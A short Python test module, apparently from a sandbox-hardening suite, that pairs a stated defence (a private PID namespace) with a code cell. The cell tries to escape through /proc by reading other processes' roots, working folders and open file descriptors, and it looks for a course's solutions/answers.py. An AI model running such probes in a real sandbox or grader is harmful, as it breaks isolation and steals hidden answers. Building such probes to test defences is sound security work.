"""Get out through /proc: other roots, working folders, open files."""

DEFENCE = "A PID namespace of its own; other processes' /proc is closed."
CORE = True
CELL = r"""
import glob
import os
import pathlib


def show(path):
    try:
        for name in sorted(os.listdir(path)):
            print(path, name)
    except OSError:
        pass
    try:
        print(pathlib.Path(path).read_bytes()[:4000].decode("latin-1"))
    except OSError:
        pass


for pid in ("self", "1", "2", str(os.getppid())):
    for way in ("root", "cwd", "task/1/root", "root/../../.."):
        show(f"/proc/{pid}/{way}")
        show(f"/proc/{pid}/{way}{COURSE}/solutions/answers.py")
    for path in glob.glob(f"/proc/{pid}/fd/*") + glob.glob(f"/proc/{pid}/map_files/*"):
        try:
            print(path, os.readlink(path))
        except OSError:
            pass
"""
